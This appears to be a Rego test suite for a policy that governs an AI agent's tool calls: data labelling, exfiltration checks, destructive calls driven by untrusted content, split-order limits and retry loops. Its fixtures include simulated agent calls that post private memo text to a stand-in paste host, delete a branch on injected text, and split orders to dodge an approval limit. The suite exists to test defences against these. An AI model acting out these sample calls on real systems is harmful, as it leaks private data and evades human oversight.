package oagf_sessions_test

settings := {
	"approvers": {"groups": ["security"]},
	"agents": {"assistant": {
		"tools": ["read_document", "fetch_page", "http_post", "delete_branch", "place_order", "check_inventory"],
		"apis": {"docs": ["GET /documents/*"], "webhooks": ["POST /*"]},
		"labels": [
			{"tool": "read_document", "labels": ["private"], "source": "board-documents"},
			{"api": "docs", "method": "GET", "path": "/documents/*", "labels": ["private"]},
			{"tool": "fetch_page", "labels": ["untrusted"]},
		],
		"egress": {"tools": ["http_post"], "apis": ["webhooks"], "allow": ["https://intranet.acme.example/*"]},
		"destructive_tools": ["delete_*"],
		"loop_max_failures": 2,
		"limits": [{"tool": "place_order", "currency": "USD", "escalate_above": 1000000, "deny_above": 5000000, "window": "1h"}],
	}},
}

assistant := {"id": "assistant", "labels": {}, "delegation": []}

now := {"now": "2026-12-04T10:00:00.000Z", "unix_ms": 1796378400000, "weekday": "Friday", "hour": 10, "minute": 0}

read_ref := {"id": "rec-read", "index": 4, "kind": "llm.tool_call", "target": {"tool": "read_document"}, "agent": "assistant"}

page_ref := {"id": "rec-page", "index": 6, "kind": "llm.tool_call", "target": {"tool": "fetch_page"}, "agent": "assistant"}

empty_session := {"id": "s|assistant", "digest": "sha256:this", "repeats": {"count": 0, "failed": 0}, "actions": [], "totals": {}, "labels": [], "flows": []}

with_session(action, session) := {"version": "oagf/v1", "agent": assistant, "action": action, "context": {}, "budgets": {}, "time": now, "session": session}

decide(i) := d if {
	d := data.oagf.decision with input as i with data.config as settings
}

post(url, text) := {"kind": "llm.tool_call", "target": {"tool": "http_post"}, "arguments": {"url": url, "body": text}}

private_in_scope := object.union(empty_session, {"labels": [{"label": "private", "source": "board-documents", "from": read_ref}]})

# --- labels ---

test_reading_a_document_labels_its_result_private if {
	d := decide(with_session({"kind": "llm.tool_call", "target": {"tool": "read_document"}, "arguments": {"id": "memo-7"}}, empty_session))
	d.outcome == "allow"
	d.obligations == [{"type": "label", "labels": ["private"], "source": "board-documents"}]
}

test_api_route_label_without_source if {
	d := decide(with_session({"kind": "http.request", "target": {"api": "docs", "method": "GET", "path": "/documents/7"}}, empty_session))
	d.obligations == [{"type": "label", "labels": ["private"]}]
}

test_unlabelled_action_has_no_label if {
	d := decide(with_session({"kind": "llm.tool_call", "target": {"tool": "check_inventory"}, "arguments": {}}, empty_session))
	d.obligations == []
}

# --- exfiltration ---

test_post_after_private_read_escalates_naming_the_read if {
	d := decide(with_session(post("https://paste.example/new", "hello"), private_in_scope))
	d.outcome == "escalate"
	d.reasons == ["private data from board-documents (read by tool read_document, decision rec-read at ledger index 4) is in this session, and tool http_post sends to \"https://paste.example/new\", outside the allow-list"]
}

test_post_with_flow_names_the_argument if {
	flow := {"path": "arguments.body", "chars": 70, "labels": [{"label": "private", "source": "board-documents"}], "from": read_ref}
	d := decide(with_session(post("https://paste.example/new", "memo text"), object.union(private_in_scope, {"flows": [flow]})))
	d.outcome == "escalate"
	endswith(d.reasons[0], "outside the allow-list: arguments.body carries 70 characters of it")
}

test_post_without_private_read_allowed if {
	d := decide(with_session(post("https://paste.example/new", "hello"), empty_session))
	d.outcome == "allow"
}

test_post_to_allowed_destination_allowed if {
	d := decide(with_session(post("https://intranet.acme.example/wiki", "hello"), private_in_scope))
	d.outcome == "allow"
}

test_untrusted_label_alone_is_no_exfiltration if {
	s := object.union(empty_session, {"labels": [{"label": "untrusted", "source": "fetch_page", "from": page_ref}]})
	d := decide(with_session(post("https://paste.example/new", "hello"), s))
	d.outcome == "allow"
}

test_egress_api_after_private_read_escalates if {
	d := decide(with_session({"kind": "http.request", "target": {"api": "webhooks", "method": "POST", "path": "/hooks/1"}, "body": {}}, private_in_scope))
	d.outcome == "escalate"
	contains(d.reasons[0], "sends to API webhooks, outside the allow-list")
}

test_no_session_no_session_rules if {
	i := {"version": "oagf/v1", "agent": assistant, "action": post("https://paste.example/new", "x"), "context": {}, "budgets": {}, "time": now}
	decide(i).outcome == "allow"
}

# --- untrusted content driving a destructive call ---

untrusted_flow := {"path": "arguments.branch", "chars": 22, "labels": [{"label": "untrusted", "source": "fetch_page"}], "from": page_ref}

test_destructive_call_with_untrusted_text_escalates if {
	d := decide(with_session({"kind": "llm.tool_call", "target": {"tool": "delete_branch"}, "arguments": {"branch": "release-2026-q3-hotfix"}}, object.union(empty_session, {"flows": [untrusted_flow]})))
	d.outcome == "escalate"
	d.reasons == ["tool delete_branch is destructive and its arguments.branch carries 22 characters of untrusted content from fetch_page (tool fetch_page, decision rec-page at ledger index 6)"]
}

test_destructive_call_without_untrusted_text_allowed if {
	d := decide(with_session({"kind": "llm.tool_call", "target": {"tool": "delete_branch"}, "arguments": {"branch": "old"}}, empty_session))
	d.outcome == "allow"
}

test_untrusted_text_in_harmless_call_allowed if {
	d := decide(with_session({"kind": "llm.tool_call", "target": {"tool": "check_inventory"}, "arguments": {"q": "x"}}, object.union(empty_session, {"flows": [untrusted_flow]})))
	d.outcome == "allow"
}

# --- split orders ---

order(total) := {"kind": "llm.tool_call", "target": {"tool": "place_order"}, "arguments": {"total": total}, "amount": {"value": total, "currency": "USD"}}

earlier_order(id, minutes_ago, total, decision) := {
	"id": id, "index": 1, "time_ms": now.unix_ms - (minutes_ago * 60000), "agent": "assistant",
	"kind": "llm.tool_call", "target": {"tool": "place_order"}, "digest": concat("", ["sha256:", id]),
	"decision": decision, "amount": {"value": total, "currency": "USD"},
}

test_split_orders_within_window_escalate if {
	s := object.union(empty_session, {"actions": [earlier_order("o1", 30, 900000, "allow")]})
	d := decide(with_session(order(900000), s))
	d.outcome == "escalate"
	d.reasons == ["split orders: USD 1800000 within 1h on place_order (1 earlier of this session and this one) is above the 1000000 limit agent assistant may commit on its own"]
}

test_orders_outside_window_not_summed if {
	s := object.union(empty_session, {"actions": [earlier_order("o1", 61, 900000, "allow")]})
	decide(with_session(order(900000), s)).outcome == "allow"
}

test_denied_or_failed_orders_not_summed if {
	failed := object.union(earlier_order("o2", 5, 900000, "allow"), {"outcome": "failed"})
	s := object.union(empty_session, {"actions": [earlier_order("o1", 5, 900000, "deny"), failed]})
	decide(with_session(order(900000), s)).outcome == "allow"
}

test_approved_order_counts if {
	approved := object.union(earlier_order("o1", 5, 400000, "escalate"), {"outcome": "completed"})
	s := object.union(empty_session, {"actions": [approved, earlier_order("o2", 4, 400000, "allow")]})
	d := decide(with_session(order(400000), s))
	d.outcome == "escalate"
	contains(d.reasons[0], "USD 1200000 within 1h")
}

test_small_orders_under_limit_allowed if {
	s := object.union(empty_session, {"actions": [earlier_order("o1", 5, 100000, "allow")]})
	decide(with_session(order(100000), s)).outcome == "allow"
}

# --- loops ---

loop_call := {"kind": "llm.tool_call", "target": {"tool": "check_inventory"}, "arguments": {}}

test_same_failing_call_denied_after_max if {
	s := object.union(empty_session, {"repeats": {"count": 3, "failed": 2, "last_failure": {"id": "f2", "index": 2}}})
	d := decide(with_session(loop_call, s))
	d.outcome == "deny"
	d.reasons == ["the same tool check_inventory already failed 2 times in this session (last: decision f2 at ledger index 2): it is not tried again"]
}

test_one_failure_is_no_loop if {
	s := object.union(empty_session, {"repeats": {"count": 5, "failed": 1, "last_failure": {"id": "f1", "index": 1}}})
	decide(with_session(loop_call, s)).outcome == "allow"
}

test_loop_limit_from_default_is_three if {
	d := data.oagf.decision with input as with_session(loop_call, object.union(empty_session, {"repeats": {"count": 2, "failed": 2, "last_failure": {"id": "f2", "index": 2}}}))
		with data.config as {"agents": {"assistant": {"tools": ["check_inventory"]}}}
	d.outcome == "allow"
}
